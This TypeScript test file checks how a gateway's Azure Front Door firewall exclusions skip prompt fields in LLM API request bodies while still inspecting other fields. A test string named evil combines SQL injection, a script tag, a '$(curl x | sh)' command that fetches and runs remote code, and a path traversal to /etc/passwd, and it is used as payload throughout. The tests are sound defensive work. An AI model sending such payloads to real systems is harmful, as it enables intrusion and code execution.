import {
  FrontDoorBodyInspection,
  FrontDoorExclusionOperator,
  FrontDoorExclusionVariable,
} from '../../../lib/gateway/edge/front-door-waf-props';
import type { Block } from '../../support/synth';
import { firewallWith } from './edges';

interface Exclusion {
  readonly match_variable: string;
  readonly operator: string;
  readonly selector: string;
}

/** The exclusions of the default rule set. */
function exclusionsOf(firewall: Block): Exclusion[] {
  const [rules] = firewall.managed_rule as { exclusion?: Exclusion[] }[];
  return rules.exclusion ?? [];
}

/** As https://learn.microsoft.com/azure/web-application-firewall/afds/waf-front-door-exclusion describes matching. */
function excludes({ operator, selector }: Exclusion, name: string): boolean {
  if (operator === 'EqualsAny') return true;
  if (operator === 'Equals') return name === selector;
  if (operator === 'StartsWith') return name.startsWith(selector);
  if (operator === 'EndsWith') return name.endsWith(selector);
  return name.includes(selector);
}

/**
 * The names that the firewall gives to the values of a body: the page above excludes `comment` in
 * `{"posts": [{"comment": …}]}` by `posts.comment`.
 */
function namedValues(value: unknown, name = ''): [string, unknown][] {
  if (Array.isArray(value)) return value.flatMap((item) => namedValues(item, name));
  if (typeof value !== 'object' || value === null) return [[name, value]];
  return Object.entries(value).flatMap(([key, inner]) => namedValues(inner, name === '' ? key : `${name}.${key}`));
}

/** What the default rule set still reads of a JSON body. */
function inspected(body: object, exclusions = exclusionsOf(firewallWith())): unknown[] {
  const json = exclusions.filter(({ match_variable }) => match_variable === 'RequestBodyJsonArgNames');
  return namedValues(body)
    .filter(([name]) => !json.some((exclusion) => excludes(exclusion, name)))
    .map(([, value]) => value);
}

const evil = "'; DROP TABLE users; -- <script>alert(1)</script> $(curl x | sh) ../../etc/passwd";

const bodies: [string, object][] = [
  ['a chat', { model: 'gpt-4o', messages: [{ role: 'user', content: evil }] }],
  [
    'a chat with parts and pictures',
    { messages: [{ role: 'user', content: [{ type: 'text', text: evil }, { image_url: { url: evil } }] }] },
  ],
  [
    'a chat with the calls of tools',
    { messages: [{ role: 'assistant', tool_calls: [{ function: { name: 'sql', arguments: evil } }] }] },
  ],
  [
    'a chat with tools',
    {
      messages: [{ content: evil }],
      tools: [
        { type: 'function', function: { description: evil, parameters: { properties: { q: { pattern: evil } } } } },
      ],
      functions: [{ description: evil }],
    },
  ],
  [
    'a chat with a form for the answer',
    {
      response_format: { json_schema: { schema: { description: evil } } },
      stop: [evil],
      prediction: { content: evil },
    },
  ],
  ['a chat on own data', { data_sources: [{ parameters: { role_information: evil, filter: evil } }] }],
  ['a completion', { prompt: evil, suffix: evil, stop: evil }],
  ['several completions', { prompt: [evil, evil] }],
  ['an embedding', { input: evil }],
  ['several embeddings', { input: [evil, evil] }],
  ['a response', { model: 'gpt-4.1', input: evil, instructions: evil }],
  [
    'a response to parts',
    {
      input: [
        { role: 'user', content: [{ type: 'input_text', text: evil }] },
        { call_id: 'c', output: evil },
      ],
    },
  ],
  [
    'a response with tools and a form',
    {
      tools: [{ description: evil }],
      text: { format: { schema: { title: evil } } },
      prompt: { variables: { a: evil } },
    },
  ],
  ['a conversation', { items: [{ content: [{ text: evil }] }] }],
  ['an assistant', { instructions: evil, description: evil, tools: [{ function: { description: evil } }] }],
  ['a message of a thread', { role: 'user', content: evil }],
  [
    'a run of a thread',
    {
      additional_instructions: evil,
      additional_messages: [{ content: evil }],
      thread: { messages: [{ content: evil }] },
      tool_outputs: [{ output: evil }],
    },
  ],
  ['a picture', { prompt: evil, size: '1024x1024' }],
  ['speech', { input: evil, instructions: evil, voice: 'alloy' }],
  ['a session', { session: { instructions: evil } }],
  ['a search in a vector store', { query: evil }],
];

describe('no managed rule reads what people wrote', () => {
  test.each(bodies)('in %s', (_what, body) => {
    expect(namedValues(body).map(([, value]) => value)).toContain(evil);
    expect(inspected(body)).not.toContain(evil);
  });

  test.each(['messages[0].content', 'messages.0.content', 'messages/0/content'])(
    'also if values in lists were named %s',
    (name) => {
      expect(exclusionsOf(firewallWith()).some((exclusion) => excludes(exclusion, name))).toBe(true);
    },
  );

  test.each(['prompt', 'image[]', 'file', 'mask'])('nor the part %s of a form', (name) => {
    const form = exclusionsOf(firewallWith()).filter(
      ({ match_variable }) => match_variable === 'RequestBodyPostArgNames',
    );
    expect(form.some((exclusion) => excludes(exclusion, name))).toBe(true);
  });
});

describe('managed rules read the rest', () => {
  test.each([
    ['the model', { model: evil }],
    ['the user', { user: evil }],
    ['metadata', { metadata: { team: evil } }],
    ['what the API does not know', { cmd: evil }],
    ['a field whose name merely ends like one of a prompt', { my_messages: evil }],
  ])('%s', (_what, body) => expect(inspected(body)).toEqual([evil]));

  test('headers, cookies and the query are not spared', () => {
    const variables = new Set(exclusionsOf(firewallWith()).map(({ match_variable }) => match_variable));
    expect([...variables].sort()).toEqual(['RequestBodyJsonArgNames', 'RequestBodyPostArgNames']);
  });
});

describe('options', () => {
  test('further fields are spared, with all below them', () => {
    const exclusions = exclusionsOf(firewallWith({ promptFields: ['metadata'] }));
    expect(inspected({ metadata: { note: evil } }, exclusions)).toEqual([]);
  });

  test('a field that is spared already is not named twice', () => {
    expect(exclusionsOf(firewallWith({ promptFields: ['messages'] }))).toEqual(exclusionsOf(firewallWith()));
  });

  test('exclusions of one’s own come after those for prompts', () => {
    const own = {
      variable: FrontDoorExclusionVariable.REQUEST_HEADER_NAMES,
      comparison: FrontDoorExclusionOperator.EQUALS,
      selector: 'x-query',
    };
    const any = {
      variable: FrontDoorExclusionVariable.REQUEST_COOKIE_NAMES,
      comparison: FrontDoorExclusionOperator.EQUALS_ANY,
    };
    expect(exclusionsOf(firewallWith({ exclusions: [own, any] })).slice(-2)).toEqual([
      { match_variable: 'RequestHeaderNames', operator: 'Equals', selector: 'x-query' },
      { match_variable: 'RequestCookieNames', operator: 'EqualsAny', selector: '*' },
    ]);
  });

  test('everything is read when that is wanted', () => {
    const firewall = firewallWith({ bodyInspection: FrontDoorBodyInspection.ALL });
    const [rules] = firewall.managed_rule as object[];
    expect(rules).not.toHaveProperty('exclusion');
    expect(rules).not.toHaveProperty('override');
    expect(firewall.request_body_check_enabled).toBe(true);
  });

  test('no body is read when that is wanted', () => {
    const firewall = firewallWith({ bodyInspection: FrontDoorBodyInspection.NONE });
    expect(firewall.request_body_check_enabled).toBe(false);
    expect(exclusionsOf(firewall)).toEqual([]);
  });
});
